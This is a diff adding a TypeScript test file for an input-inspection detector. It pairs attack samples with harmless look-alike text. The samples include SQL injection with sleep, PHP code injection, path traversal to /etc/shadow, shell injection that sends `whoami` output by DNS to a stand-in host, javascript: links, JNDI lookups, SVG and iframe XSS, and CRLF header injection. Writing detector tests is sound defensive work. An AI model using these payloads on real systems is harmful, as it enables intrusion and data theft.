@@ -1,0 +1,93 @@
+import { detectors } from './detectors.ts';
+import { type Family, testFamilies } from './testing/families.ts';
+import { createValueInspector } from './testing/value.ts';
+
+/** Attacks within addresses, behind every quote and in parted steps, each family with what honest pages, formulas and remarks look like. */
+const families: readonly Family[] = [
+  [
+    'sql: in the folder of an address, and joined by plus signs',
+    [
+      "http://shop.example.com/'+(select*from(select(sleep(9)))q)+'",
+      "https://m.example.org/list/' and 5=5-- ",
+      "https://m.example.org/'(select*from(select(sleep(9)))q)'",
+      'word+UNION+ALL+SELECT+NULL+--+',
+    ],
+    [
+      "https://m.example.org/list/'",
+      "'https://m.example.org/list/' + id",
+      "https://m.example.org/it's-here",
+      'a+union+of+all+teams',
+      'AAAA+union+BBBBcc',
+    ],
+  ],
+  [
+    'php: a call between the strings of an application',
+    ["'.sleep(9).'", '".usleep(900000)."', "http://shop.example.com/'.sleep(9).'", `'.gethostbyname("q1.names.example.com").'`],
+    ["'.date('Y').'", "echo 'a'.gethostbyname($host).'b'", "'.' 和 sleep(9) 都试过", "a = 'x.sleep(9).y'"],
+  ],
+  [
+    'paths: parted steps, what precedes a path, and null bytes behind folders with spaces',
+    [
+      '. . /. . /. . /. . /etc/hosts',
+      '. . \\. . \\. . \\windows\\win.ini',
+      '/file:///etc/hosts',
+      '    /WEB-INF/classes/shop/Main.class',
+      '   /etc/shadow',
+      'C:/Program Files/apache group/Apache/conf/httpd.conf%00',
+    ],
+    [
+      '稍等. . . 马上来',
+      'loading . . . 50/100',
+      'a . . / . . b',
+      '/profile/file',
+      '  /pages/index/index',
+      'C:/Program Files/Example App/readme',
+    ],
+  ],
+  [
+    'shell: an end to whatever quote, and answers that become part of a name',
+    [
+      `nslookup q1.names.example.com&'\\"\`0&nslookup q1.names.example.com&\`'`,
+      `a|'"\`|ping q1.names.example.com`,
+      'ping `whoami`.q1.names.example.com',
+      '`hostname`.q1.names.example.com',
+      '; \\ln -s /etc/shadow x',
+    ],
+    [
+      `"it's" & 'so'`,
+      '函数 $f(x)=\\frac{1}{3} ; \\ln 3$ 的值',
+      '模块说明\n * @author <a href="https://example.com/w">W</a>\n@date 2024/9/13',
+      '`whoami` 命令',
+      '请运行 `hostname`。然后截图',
+    ],
+  ],
+  [
+    'script: a remark that a line break ends, in a link of Markdown',
+    ['[文档](javascript://www.example.com%0Aprompt(7))', '[x](javascript://x\nalert(7))'],
+    ['[文档](https://www.example.com/a%0Ab)', '// javascript://x 不是地址\n下一行 (说明)'],
+  ],
+  [
+    'java: a database driver that looks a name up',
+    ['jdbc:jcr:jndi:ldap://q1.names.example.com:1389/Q', 'jdbc:x:jndi:rmi://q1.names.example.com/Q'],
+    ['jdbc:mysql://db.example.com:3306/shop', 'jdbc:h2:mem:test', 'jndi:ldap 查询失败'],
+  ],
+  [
+    'pages: drawings that point to themselves, pictures that load later, players, and recorded exchanges',
+    [
+      '<svg><use xlink:href="data:image/svg+xml;base64,PHN2Zz4="></use></svg>',
+      '<svg><use href="//x.example/a.svg#q" xlink:href="//x.example/a.svg#q"></use></svg>',
+      '<div datasrc="#q" datafld="m" dataformatas="html">',
+      '<img lowsrc="javascript:alert(7)">',
+      '<iframe src="//www.dailymotion.com.x.example/embed/video/q"></iframe>',
+      '1\r\nSet-Cookie: q=1',
+    ],
+    [
+      '<p>播放</p><svg width="12"><symbol id="play"><path d="M0 0"></path></symbol></svg><svg><use xlink:href="#play"></use></svg>',
+      '<p>图</p><p><img src="//img.example.com/s.jpg" datasrc="https://img.example.com/l.jpg"></p>',
+      '<p>视频</p><iframe src="//www.dailymotion.com/embed/video/x2p" frameborder="0" width="534"></iframe>',
+      '<p>过程</p><pre>GET /a HTTP/1.1\nHost: a.example.com\n\nHTTP/1.1 412 Precondition Failed</pre><p>完</p>',
+    ],
+  ],
+];
+
+testFamilies(families, createValueInspector(detectors));
